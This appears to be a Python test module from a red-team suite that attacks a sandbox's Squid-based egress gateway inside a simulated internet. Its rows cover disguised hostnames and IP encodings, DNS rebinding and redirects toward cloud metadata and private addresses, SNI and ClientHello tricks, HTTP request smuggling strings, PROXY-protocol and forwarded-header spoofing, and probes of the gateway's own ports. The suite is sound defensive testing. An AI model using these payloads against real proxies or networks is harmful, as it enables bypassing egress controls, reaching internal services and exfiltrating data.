"""Attacks through the egress gateway, from a sandbox that may reach ALLOWED and a few others.

Beside each row the sandbox makes one legitimate request: what of it arrives is harmless.
"""

import base64
import struct
from collections.abc import Iterator
from typing import Any

from redteam.attacks import Attack, row
from redteam.direct import EXFIL, METADATA, PRIVATE, query, tcp, tls
from redteam.targets import Targets
from support.client_hello import hello
from support.fake_internet import Event
from support.fake_internet_names import (
    ALLOWED,
    ATTACKER,
    ATTACKER6,
    BESIDE,
    CDN,
    EVIL,
    NAME_SERVER,
    OTHERS,
    TO,
    WILD,
    leading_to,
)

JSON = dict[str, Any]
LEGITIMATE = {"kind": "connect", "target": f"{ALLOWED}:443", "sni": ALLOWED, "path": "/control"}
SERVICE = "cloister-egress-gateway"
SSH = "SSH-2.0-OpenSSH_9.2\r\n"


def harmless(event: Event) -> bool:
    """What an allowed request brings to the far side, byte for byte by its right name."""
    match event.kind:
        case "dns":
            return str(event.name) == ALLOWED or str(event.name).endswith(f".{TO}")
        case "packet":
            asked = (event.dst, event.port) == (NAME_SERVER, 53)
            return asked or (event.proto == 6 and event.dst == CDN and event.port in (80, 443))
        case "tls" | "tls-failed":
            # Squid reads the first of several names; a site's TLS refuses them altogether.
            refused = event.sni is None and "BAD_EXTENSION" in (event.error or "")
            return bool(event.dst == CDN and (event.sni == ALLOWED or refused))
        case "http":
            named = event.sni == ALLOWED if event.tls else event.sni is None
            return bool(event.dst == CDN and event.host == ALLOWED and named)
        case _:
            # A connection that was opened, and over which nothing was said.
            return event.dst == CDN and not event.first


def connect(target: str, sni: str | None = None, **rest: Any) -> JSON:
    return {"kind": "connect", "target": target, "sni": sni, **rest}


def get(url: str, *headers: str, **rest: Any) -> JSON:
    return {"kind": "get", "url": url, "headers": headers, **rest}


def wire(send: str, **rest: Any) -> JSON:
    return {"kind": "wire", "send": send, **rest}


def _evil(_: Targets) -> list[JSON]:
    """The attacker's site and name server are there."""
    return [query(NAME_SERVER), tls(ATTACKER, EVIL), tcp(ATTACKER, 80)]


def _beside(_: Targets) -> list[JSON]:
    """Another site at the allowed one's address is there, and so is one without a name."""
    return [tls(CDN, BESIDE), tls(CDN, ""), {**tcp(CDN, 443), "kind": "talk", "send": SSH}]


def _row(name: str, *attempts: JSON, **rest: Any) -> Attack:
    return row(name, *attempts, **{"control": _evil, "harmless": harmless, **rest})


def _names() -> Iterator[Attack]:
    yield _row("denied-connect", connect(f"{EVIL}:443", EVIL), connect(f"{BESIDE}:443", BESIDE))
    yield _row("denied-get", get(f"http://{EVIL}/"), get(f"http://{BESIDE}/"))
    yield _row("names-that-carry-data", connect(f"{EXFIL}:443", EXFIL), get(f"http://{EXFIL}/"))
    near = (
        f"x.{ALLOWED}",
        "example.com",
        WILD,
        f"not{WILD}",
        f"evil-{ALLOWED}",
        f"{ALLOWED}.{EVIL}",
    )
    yield _row(
        "near-names",
        *(connect(f"{each}:443", each) for each in near),
        *(get(f"http://{each}/") for each in near),
    )
    odd = (
        f"{EVIL}.", EVIL.upper(), f"{ALLOWED}@{EVIL}", f"{ALLOWED}%00.{EVIL}", f"{EVIL}%2e",
        f"{ALLOWED}\\.{EVIL}", f"{EVIL}#{ALLOWED}", f"{EVIL}?{ALLOWED}", f"{EVIL}/{ALLOWED}",
        f"{ALLOWED}..{EVIL}", f".{EVIL}", f"*.{EVIL}", f"xn--llowed-2of.{EVIL}", f"{EVIL}\t",
        f"{ALLOWED}\x00.{EVIL}", f"a_b.{EVIL}", f"-.{EVIL}", f"{'a' * 64}.{EVIL}", "*.com", "*",
    )  # fmt: skip
    yield _row("odd-names-connect", *(connect(f"{each}:443", EVIL) for each in odd))
    yield _row("odd-names-get", *(get(f"http://{each}/") for each in odd))
    yield _row(
        "users-and-passwords", get(f"http://{ALLOWED}:80@{EVIL}/"), get(f"http://a:b@{EVIL}/")
    )


def _addresses() -> Iterator[Attack]:
    number = int.from_bytes(bytes(int(each) for each in ATTACKER.split(".")), "big")
    quad = [int(each) for each in ATTACKER.split(".")]
    forms = (
        ATTACKER, str(number), hex(number), f"0{number:o}", ".".join(hex(each) for each in quad),
        ".".join(f"0{each:o}" for each in quad), f"{quad[0]}.{number & 0xFFFFFF}",
        f"{quad[0]}.{quad[1]}.{number & 0xFFFF}", f"{ATTACKER}.", f"[{ATTACKER6}]",
        f"[::ffff:{ATTACKER}]", f"[::{ATTACKER}]", f"[64:ff9b::{ATTACKER}]", f"[{ATTACKER6}%eth0]",
    )  # fmt: skip
    # Their reverse record says that they are the allowed site's.
    yield _row("addresses-connect", *(connect(f"{each}:443", ALLOWED) for each in forms))
    yield _row("addresses-get", *(get(f"http://{each}/") for each in forms))
    yield _row(
        "an-allowed-sites-address",
        *(connect(f"{CDN}:443", ALLOWED), get(f"http://{CDN}/", f"Host: {ALLOWED}")),
        control=_beside,
    )
    inside = (*METADATA.values(), *PRIVATE)
    reachable = [tcp(each, 80) for each in inside]
    shown = [f"[{each}]" if ":" in each else each for each in inside]
    yield _row(
        "metadata-and-private-addresses",
        *(get(f"http://{each}/") for each in shown),
        *(connect(f"{each}:443", "x.example.com") for each in shown),
        control=lambda _: reachable,
    )


def _leading() -> Iterator[Attack]:
    """Allowed names that lead where nobody may go."""

    def to(*addresses: str, changing: bool = False) -> list[JSON]:
        name = leading_to(*addresses, changing=changing)
        return [connect(f"{name}:443", name), get(f"http://{name}/")]

    def outside(_: Targets) -> list[JSON]:
        return [tcp(each, 80) for each in (*METADATA.values(), *PRIVATE)]

    def rebinding(_: Targets) -> list[JSON]:
        made = to("45.83.64.99", "169.254.169.254", changing=True)
        # The first answer is harmless and reached; what counts is where later ones lead.
        return [{**each, "answered": True} for each in made * 6]

    def went(event: Event) -> bool:
        return harmless(event) or event.dst == "45.83.64.99"

    for label, addresses in {
        "metadata": METADATA.values(),
        "private": PRIVATE,
        "loopback": ("127.0.0.1", "127.8.8.8", "0.0.0.0", "::1", "::"),
        "mapped": ("::ffff:169.254.169.254", "::ffff:10.50.0.7", "::169.254.169.254"),
        "translated": ("64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "2001:0:a9fe:a9fe::1"),
        "special": ("192.0.2.9", "198.51.100.9", "203.0.113.9", "224.0.0.1", "255.255.255.255",
                    "240.0.0.9", "192.88.99.9", "fe80::1", "ff02::1", "2001:db8::9", "3fff::9"),
    }.items():  # fmt: skip
        yield Attack(
            f"leads-to-{label}",
            lambda _, a=tuple(addresses): [one for each in a for one in to(each)],  # type: ignore[misc]
            outside if label in ("metadata", "private") else _evil,
            harmless=harmless,
        )
    yield Attack(
        "leads-into-the-cluster",
        lambda t: [one for each in (t.api, t.node, t.bridge, t.operator, t.bystander, t.service,
                                    t.victim, *t.gateways, t.gateway) for one in to(each)],
        lambda t: [tcp(t.api, 443), tcp(t.bystander, 8000), tcp(t.service, 80)],
        harmless=harmless,
    )  # fmt: skip
    yield Attack(
        "leads-to-both",
        # Its public address may be reached: the name is allowed.
        lambda _: [{**each, "answered": True} for each in to(ATTACKER, "169.254.169.254")
                   + to("10.50.0.7", ATTACKER)],
        outside,
        harmless=lambda event: harmless(event) or event.dst == ATTACKER,
    )  # fmt: skip
    yield Attack("rebinding", rebinding, outside, harmless=went)
    yield Attack(
        "redirected",
        lambda _: [{**get(f"http://{ALLOWED}/redirect?to=http://10.50.0.7/"), "answered": True},
                   get("http://169.254.169.254/")],
        outside,
        harmless=harmless,
    )  # fmt: skip


def _tunnels() -> Iterator[Attack]:
    def through(name: str, *attempts: JSON) -> Attack:
        return _row(name, *attempts, control=_beside)

    target = f"{ALLOWED}:443"
    yield through("another-name-in-tls", connect(target, BESIDE), connect(target, EVIL))
    yield through("no-name-in-tls", connect(target, ""))
    yield through("pieces", *(connect(target, BESIDE, pieces=each) for each in (1, 3, 50)))
    yield through(
        "names-that-parsers-read-differently",
        *(connect(target, send=_encoded(hello(*each))) for each in (
            [(0, BESIDE)], [(0, ALLOWED), (0, BESIDE)], [(0, BESIDE), (0, ALLOWED)],
            [(1, ALLOWED), (0, BESIDE)], [(0, f"{ALLOWED}\x00.{EVIL}")], [(0, f"{ALLOWED}.{EVIL}")],
            [(0, "")], [(0, ATTACKER)],
        )),
        connect(target, send=_encoded(hello((0, ALLOWED), again=(0, BESIDE)))),
        connect(target, send=_encoded(hello((0, BESIDE), again=(0, ALLOWED)))),
    )  # fmt: skip
    blanks = (f" {ALLOWED}", f"{ALLOWED} ", f"\t{ALLOWED}", f"{ALLOWED}\n", f"{ALLOWED} {ALLOWED}",
              f"{ALLOWED} {ALLOWED} 443", f"-\n0 OK\n0 {ALLOWED}", f"{ALLOWED}%20")  # fmt: skip
    yield through(
        "blanks-in-the-name-in-tls",
        *(connect(target, send=_encoded(hello((0, each)))) for each in blanks),
    )
    yield through(
        "other-protocols",
        *(connect(target, send=each) for each in (
            SSH, f"GET / HTTP/1.1\r\nHost: {BESIDE}\r\n\r\n", "EHLO evil\r\n", "\x05\x01\x00",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "\0\0\0\x08\x04\xd2\x16\x2f",
            "\x80\x2e\x01\x03\x01", "secret\n", "\x16", "\x16\x03\x01\xff\xff" + "a" * 400,
        )),
    )  # fmt: skip
    ports = (22, 25, 53, 80, 853, 3128, 6443, 8080, 8443, 10250, 65535)
    odd = (0, -1, 65536, 65979, "443x", "0443", "", "443:22", " 443", "https")
    yield through("odd-ports-connect", *(connect(f"{ALLOWED}:{each}", ALLOWED) for each in ports))
    yield through(
        "ports-that-are-none",
        *({**connect(f"{ALLOWED}:{each}", BESIDE)} for each in odd),
        connect(ALLOWED, BESIDE),
    )
    yield through(
        "odd-ports-get",
        *(get(f"http://{ALLOWED}:{each}/") for each in (*ports[:3], *ports[4:], 443)),
    )
    yield through("raw-at-80", connect(f"{ALLOWED}:80", BESIDE), connect(f"{ALLOWED}:80", send=SSH))


def _requests() -> Iterator[Attack]:
    evil = f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    good = f"http://{ALLOWED}/"
    yield _row(
        "two-hosts",
        *({**get(good, f"Host: {each}"), "answered": True} for each in (EVIL, BESIDE, ATTACKER)),
        {**get(good, f"Host: {ALLOWED}", f"Host: {EVIL}"), "answered": True},
        get(f"http://{EVIL}/", f"Host: {ALLOWED}"),
        get("", f"Host: {EVIL}", line="GET / HTTP/1.1"),
        get("", f"Host: {ALLOWED}", line=f"GET {EVIL} HTTP/1.1"),
    )
    lengths = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n"
    head = f"POST {good} HTTP/1.1\r\nHost: {ALLOWED}\r\n"
    yield _row(
        "smuggling",
        *({**wire(each), "answered": True} for each in (
            f"GET {good} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n{evil}",
            f"{head}{lengths}\r\n0\r\n\r\n{evil}",
            f"{head}Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n{evil}",
            f"{head}Transfer-Encoding:\x0bchunked\r\nContent-Length: {len(evil)}\r\n\r\n{evil}",
            f"{head}Content-Length: 0\r\nContent-Length: {len(evil)}\r\n\r\n{evil}",
            f"GET {good} HTTP/1.1\nHost: {ALLOWED}\n\n{evil}",
            f"GET {good} HTTP/1.1\r\nHost: {ALLOWED}\r\nX: a\rGET http://{EVIL}/ HTTP/1.1\r\n\r\n",
        )),
    )  # fmt: skip
    schemes = ("ftp", "gopher", "https", "wais", "whois", "ws", "file", "coap")
    yield _row(
        "other-schemes",
        *(get(f"{each}://{EVIL}/") for each in schemes),
        *(get(f"{each}://{ALLOWED}/x") for each in ("ftp", "gopher", "https", "wais", "whois")),
        get(f"urn:{EVIL}"), get("urn:x:y"),
    )  # fmt: skip
    inner = ("cache_object://localhost/info", "http://localhost/squid-internal-mgr/info",
             "http://names.cloister.dev/squid-internal-mgr/config",
             "http://names.cloister.dev:3128/", "http://sni.cloister.dev/")  # fmt: skip
    yield _row(
        "the-proxys-own",
        *(get(each) for each in inner),
        *(get(f"http://{EVIL}/", method=each) for each in ("TRACE", "PURGE", "OPTIONS", "PUT")),
        get("", line="OPTIONS * HTTP/1.1"),
        get("", line="GET /squid-internal-mgr/menu HTTP/1.1"),
    )
    yield _row(
        "other-tongues",
        wire(f"GET http://{EVIL}/\r\n\r\n"),
        wire("\x05\x01\x00\x05\x01\x00\x03" + chr(len(EVIL)) + EVIL + "\x01\xbb"),
        wire("\x04\x01\x00\x50\x2d\x53\x40\x42\x00"),
        wire(_encoded(hello((0, EVIL)))),
        wire(f"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{evil}"),
        wire(f"GET ws://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\nUpgrade: websocket\r\n\r\n"),
    )


def _readings() -> Iterator[Attack]:
    """What two programs may read differently: a first line, a name in a URL, the end of a head."""
    hidden = "".join(f"%{ord(each):02x}" for each in EVIL)
    wide = EVIL.replace(".", "\xe3\x80\x82")  # the full stop of ideographs, in UTF-8
    yield _row(
        "spellings-of-a-url",
        *(get("", f"Host: {ALLOWED}", line=f"GET {each} HTTP/1.1") for each in (
            f"HTTP://{EVIL}/", f"http:///{EVIL}/", f"http:\\\\{EVIL}/", f"//{EVIL}/", f"/{EVIL}/",
            f"http:{EVIL}/", f"http://{ALLOWED}\\@{EVIL}/", f"http://{ALLOWED};@{EVIL}/",
            f"http://{ALLOWED}%2f@{EVIL}/", f"http://{hidden}/", f"http://{wide}/",
            f"http://{EVIL}:80:443/", f"http://{EVIL}:/", f"http://{EVIL}:+80/", f"http://{EVIL}:0x50/",
            f"http://@{EVIL}/", f"http://:@{EVIL}/", f"http://{EVIL}\x0b/", f"http://\x00{EVIL}/",
            f"http://{ALLOWED},{EVIL}/", f"http://({EVIL})/", f"http://[{EVIL}]/", f"http://{EVIL}\xa0/",
        )),
    )  # fmt: skip
    yield _row(
        "spellings-of-a-tunnel",
        *(get("", f"Host: {ALLOWED}", line=each) for each in (
            f"CONNECT http://{EVIL}/ HTTP/1.1", f"CONNECT {EVIL} HTTP/1.1",
            f"connect {EVIL}:443 HTTP/1.1", f"GET {EVIL}:443 HTTP/1.1",
            f"CONNECT //{EVIL}:443 HTTP/1.1", f"CONNECT {ALLOWED}:443@{EVIL}:443 HTTP/1.1",
            f"CONNECT {EVIL}:443 HTTP/2.0", f"CONNECT\t{EVIL}:443\tHTTP/1.1",
            f"CONNECT {EVIL}:443", f" CONNECT {EVIL}:443 HTTP/1.1", f"PRI {EVIL}:443 HTTP/1.1",
        )),
    )  # fmt: skip
    good = f"http://{ALLOWED}/"
    evil = f"GET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
    head = f"GET {good} HTTP/1.1\r\n"
    yield _row(
        "ends-of-a-head",
        *({**wire(each), "answered": True} for each in (
            f"{head}Host : {EVIL}\r\n\r\n", f"{head}Host:\r\n {EVIL}\r\n\r\n",
            f"{head}Host: {ALLOWED}\r\n\r{evil}", f"{head}Host: {ALLOWED}\r\n\n{evil}",
            f"{head}Host: {ALLOWED}\r\nX: \0\r\n\r\n{evil}", f"{head} Host: {EVIL}\r\n\r\n",
            f"{head}Host: {ALLOWED}\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\n{evil}",
            f"{head}Host: {ALLOWED}\r\nContent-Length: -1\r\n\r\n{evil}",
            f"{head}Host: {ALLOWED}\r\nContent-Length: +0\r\n\r\n{evil}",
            f"{head}Host: {ALLOWED}\r\nTransfer-Encoding: identity, chunked\r\n\r\n0\r\n\r\n{evil}",
            f"{head}Host: {ALLOWED}\r\nX: {'a' * 70_000}\r\n\r\n{evil}",
            f"{head}Host: {ALLOWED}\r\nProxy-Connection: keep-alive\r\n\r\n{evil}",
        )),
    )  # fmt: skip
    through = f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}\r\n"
    allowed = f"CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: {ALLOWED}\r\n"
    yield _row(
        "bodies-of-tunnels",
        wire(f"{through}Content-Length: {len(evil)}\r\n\r\n{evil}"),
        wire(f"{allowed}Content-Length: {len(evil)}\r\n\r\n{evil}"),
        wire(f"{allowed}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{evil}"),
        wire(f"{allowed}\r\n{evil}"),
        wire(f"{allowed}\r\n{allowed}\r\n{evil}"),
        wire(f"{allowed}Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n{evil}"),
        wire(f"{through}\r\n{allowed}\r\n"),
    )
    told = (
        "Max-Forwards: 0",
        f"X-Forwarded-Host: {EVIL}",
        f"X-Original-URL: http://{EVIL}/",
        f"Forwarded: host={EVIL}",
        "X-HTTP-Method-Override: CONNECT",
        f"Alt-Used: {EVIL}:443",
    )
    yield _row(
        "headers-that-lead-elsewhere",
        *({**get(good, each, method=method), "answered": True} for each in told
          for method in ("GET", "TRACE", "OPTIONS")),
    )  # fmt: skip


def _identity() -> Iterator[Attack]:
    """Posing as a sandbox that may reach OTHERS."""
    ask = f"GET http://{OTHERS}/ HTTP/1.1\r\nHost: {OTHERS}\r\nConnection: close\r\n\r\n"

    def posing(targets: Targets) -> list[JSON]:
        victim, to = targets.victim, targets.gateway
        told = [f"X-Forwarded-For: {victim}", f"Forwarded: for={victim}", f"X-Real-IP: {victim}",
                f"Client-IP: {victim}", "Proxy-Authorization: Basic YTpi"]  # fmt: skip
        pair = [bytes(int(each) for each in address.split(".")) for address in (victim, to)]
        second = b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack("!H", 12) + pair[0] + pair[1]
        second += struct.pack("!HH", 50000, 3128) + ask.encode()
        return [
            get(f"http://{OTHERS}/", *told),
            wire(f"PROXY TCP4 {victim} {to} 50000 3128\r\n{ask}"),
            wire("base64:" + base64.b64encode(second).decode()),
            connect(f"{OTHERS}:443", OTHERS, before=f"PROXY TCP4 {victim} {to} 50000 3128\r\n"),
        ]

    yield Attack("posing-as-another", posing, lambda _: [tls(CDN, OTHERS)], harmless=harmless)


def _gateway() -> Iterator[Attack]:
    """The gateway itself."""
    inner = (3129, 3130, 3141, 7444, 8081, 22, 53, 80, 8080, 8443)

    def every(targets: Targets) -> list[JSON]:
        addresses = (*targets.gateways, targets.gateway)
        return [tcp(each, port) for each in addresses for port in inner]

    def within(targets: Targets) -> list[JSON]:
        names = ("127.0.0.1", "localhost", "[::1]", *targets.gateways, targets.gateway,
                 SERVICE, f"{SERVICE}.cloister-system.svc")  # fmt: skip
        made = [connect(f"{each}:{port}", "x.y") for each in names for port in (443, 3141, 7444)]
        return made + [get(f"http://{each}:8081/metrics") for each in names]

    def there(targets: Targets) -> list[JSON]:
        return [tcp(each, port) for each in targets.gateways for port in (3128, 7444, 8081)]

    yield Attack("the-gateways-ports", every, there, harmless=harmless)
    yield Attack("the-gateway-through-itself", within, there, harmless=harmless)


def _encoded(data: bytes) -> str:
    return "base64:" + base64.b64encode(data).decode()


PROXIED = (
    *_names(),
    *_addresses(),
    *_leading(),
    *_tunnels(),
    *_requests(),
    *_readings(),
    *_identity(),
    *_gateway(),
)
